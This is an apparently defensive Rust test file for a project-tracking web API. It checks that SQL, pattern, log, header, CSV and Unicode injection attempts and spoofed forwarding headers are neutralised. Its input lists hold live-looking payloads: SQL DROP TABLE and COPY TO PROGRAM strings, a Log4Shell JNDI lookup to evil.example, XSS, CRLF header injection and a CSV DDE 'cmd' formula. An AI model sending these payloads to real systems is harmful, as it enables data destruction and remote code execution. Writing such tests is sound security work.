//! Injection through every text that a client can send: SQL, patterns, log lines, CSV, headers. And who a client says it is.

use e2e::client::send;
use e2e::server::Aponta;
use reqwest::Method;
use serde_json::{Value, json};

/// What would do something anywhere but in a value.
const TEXTS: [&str; 14] = [
    "'; DROP TABLE atividades; --",
    "' OR '1'='1",
    "$1",
    "{id}",
    "\\'; SELECT pg_sleep(10); --",
    "1; COPY atividades TO PROGRAM 'id'",
    "%_\\%",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "a\r\nX-Injected: yes",
    "{\"level\":\"ERROR\",\"message\":\"forged\"}\n{\"level\":\"ERROR\"}",
    "\u{1b}[31mred",
    "=HYPERLINK(\"https://evil.example\")",
    "\u{202e}\u{200b}\u{feff}",
];

#[tokio::test]
async fn injection_into_sql_is_stored_as_text() {
    let aponta = Aponta::start();
    let api = &aponta.api;
    let projeto = api.projeto("P").await;
    let (rejected, stored): (Vec<_>, Vec<_>) = TEXTS.into_iter().partition(|text| text.contains('\u{1b}'));
    for text in rejected {
        let body = json!({"nome": text, "descricao": text, "id_projeto": projeto});
        let response = api.post("/api/v1/atividades", &body).await;
        assert_eq!(response.faults(), ["value_error body.nome", "value_error body.descricao"]);
    }
    for text in &stored {
        let body = json!({"nome": text, "descricao": text, "id_projeto": projeto});
        let created = api.post("/api/v1/atividades", &body).await.expect(201);
        assert_eq!((&created["nome"], &created["descricao"]), (&json!(text.trim()), &json!(text)));
        let path = format!("/api/v1/atividades/{}", created["id"].as_str().unwrap());
        let changed = api.put(&path, &json!({"nome": format!("{text}!"), "descricao": text})).await.expect(200);
        assert_eq!(changed["descricao"], *text);
        assert_eq!(api.post("/api/v1/projetos", &json!({"nome": text, "descricao": text})).await.status, 201);

        for parameter in ["id_projeto", "ativo", "skip", "limit", "ordem", "apos", "formato"] {
            let request = api.request(Method::GET, "/api/v1/atividades").query(&[(parameter, text)]);
            let _ = send(request).await.faults();
        }
        let found = send(api.request(Method::GET, "/api/v1/atividades").query(&[("q", text)])).await;
        assert!([200, 422].contains(&found.status), "{text:?}: {}", found.text);
        let keyed = api.request(Method::POST, "/api/v1/atividades").header("Idempotency-Key", "'; DROP TABLE x;--");
        assert_eq!(send(keyed.json(&body)).await.status, 400);
    }
    assert_eq!(api.get("/api/v1/projetos").await.expect(200).as_array().unwrap().len(), stored.len() + 1);
}

#[tokio::test]
async fn injection_into_a_pattern_matches_literally() {
    let aponta = Aponta::start();
    let api = &aponta.api;
    let projeto = api.projeto("P").await;
    for nome in ["100%", "a_b", "axb", "back\\slash", "[a-z]", "(.*)+$"] {
        let _ = api.atividade(nome, &projeto).await;
    }
    for (q, expected) in
        [("%", 1), ("_", 1), ("a_b", 1), ("\\", 1), ("[a-z]", 1), ("(.*)+$", 1), (".*", 1), ("a%b", 0), ("__", 0)]
    {
        let found = send(api.request(Method::GET, "/api/v1/atividades").query(&[("q", q)])).await.expect(200);
        assert_eq!(found["total"], expected, "{q}");
    }
}

/// Each line of the log is one of ours: nothing that a client sends begins another.
#[tokio::test]
async fn injection_into_logs_and_headers_is_escaped() {
    let aponta = Aponta::start_with(|program| program.env("LOG", "debug"));
    let api = &aponta.api;
    for text in TEXTS {
        let _ = api.post("/api/v1/projetos", &json!({"nome": text, "ativo": text})).await;
        let _ = send(api.request(Method::GET, "/api/v1/atividades").query(&[("q", text), ("ordem", text)])).await;
    }
    let raw = api.request(Method::GET, "/%0d%0aX-Injected:%20yes%0d%0a%0d%0aforged");
    for (name, value) in [
        ("X-Request-ID", "a b"),
        ("X-Request-ID", "forged\\n{}"),
        ("traceparent", "00-zz-zz-01"),
        ("User-Agent", "forged"),
        ("Referer", "forged"),
        ("Origin", "https://forged"),
    ] {
        let response = send(raw.try_clone().unwrap().header(name, value)).await;
        assert_eq!(response.header("x-injected"), None);
        assert!(!format!("{:?}", response.headers).contains("forged"), "{:?}", response.headers);
    }
    let last = api.request(Method::GET, "/healthz").header("X-Request-ID", "o-ultimo");
    let _ = send(last).await;
    aponta.server.wait_for_log("o-ultimo");
    for line in aponta.server.log().lines() {
        assert!(
            !line.starts_with('{') && !line.starts_with("X-Injected") && !line.contains("\u{1b}[31mred"),
            "{line:?}"
        );
        assert!(line.starts_with("20"), "this line does not begin with a time: {line:?}");
    }
}

/// Formulas are disarmed also where a cell begins with blanks or a name of a projeto is one.
#[tokio::test]
async fn injection_into_csv_is_escaped() {
    let aponta = Aponta::start();
    let projeto = aponta.api.projeto("=cmd|' /C calc'!A0").await;
    let formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "a\tb", "\u{ff1d}1+1"];
    // A spreadsheet may pass over blanks, and may part cells where another separator was asked for.
    let hidden = [
        " =1+1",
        "\u{a0}=1+1",
        "\u{3000}@SUM(A1)",
        "\n-1",
        "\t+1",
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a;\"=1+1",
    ];
    for text in formulas.into_iter().chain(hidden) {
        let body = json!({"nome": text, "descricao": text, "id_projeto": projeto});
        let _ = aponta.api.post("/api/v1/atividades", &body).await.expect(201);
    }
    for separador in ["", "&separador=%3B"] {
        let csv = aponta.api.get(&format!("/api/v1/atividades?formato=csv{separador}")).await.text;
        for cell in csv.split([',', '\n', '\r', '\t', ';']) {
            let cell = cell.trim_start_matches(|c: char| c == '"' || c.is_whitespace());
            assert!(!cell.starts_with(['=', '+', '-', '@', '\u{ff1d}']), "{cell:?} in {csv}");
        }
    }
}

/// Who is no proxy of ours is not believed about addresses.
#[tokio::test]
async fn spoofed_forwarding_headers_are_ignored() {
    let aponta = Aponta::start_with(|program| program.env("TRUSTED_PROXIES", "10.0.0.0/8"));
    for (n, (name, value)) in [
        ("X-Forwarded-For", "198.51.100.7"),
        ("X-Forwarded-For", "10.0.0.1, 198.51.100.7"),
        ("CF-Connecting-IP", "198.51.100.7"),
        ("True-Client-IP", "198.51.100.7"),
        ("X-Real-IP", "198.51.100.7"),
        ("Forwarded", "for=198.51.100.7"),
    ]
    .into_iter()
    .enumerate()
    {
        let id = format!("pedido-{n}");
        let request = aponta.api.request(Method::GET, "/api/v1/projetos").header(name, value);
        let _ = send(request.header("X-Request-ID", &id)).await.expect(200);
        aponta.server.wait_for_log(&id);
    }
    let log = aponta.server.log();
    assert!(!log.contains("198.51.100.7"), "{log}");
}

/// What is no text at all, and texts at the edges of Unicode.
#[tokio::test]
async fn injection_of_invalid_text_returns_4xx() {
    let aponta = Aponta::start();
    let projeto = aponta.api.projeto("P").await;
    for nome in [r#""\ud800""#, r#""\udc00\ud800""#, r#""a\u0000b""#, "\"\u{0}\"", "\"a\nb\""] {
        let body = format!(r#"{{"nome": {nome}, "id_projeto": "{projeto}"}}"#);
        let request = aponta.api.request(Method::POST, "/api/v1/atividades").header("Content-Type", "application/json");
        let response = send(request.body(body)).await;
        assert_eq!(response.status, 422, "{nome:?}: {}", response.text);
    }
    let invalid = [b"{\"nome\": \"".as_slice(), b"\xff\xfe\xc0\x80", b"\"}"].concat();
    let request = aponta.api.request(Method::POST, "/api/v1/atividades").header("Content-Type", "application/json");
    assert_eq!(send(request.body(invalid)).await.status, 422);
    for nome in
        ["\u{10ffff}", "\u{1f468}\u{200d}\u{1f469}", "e\u{301}".repeat(120).as_str(), "\u{fdfa}".repeat(255).as_str()]
    {
        let body = json!({"nome": nome, "id_projeto": projeto});
        let stored: Value = aponta.api.post("/api/v1/atividades", &body).await.expect(201);
        assert_eq!(stored["nome"], *nome);
        let found =
            send(aponta.api.request(Method::GET, "/api/v1/atividades").query(&[("q", nome), ("ordem", "nome")])).await;
        assert!([200, 422].contains(&found.status), "{}", found.text);
    }
}
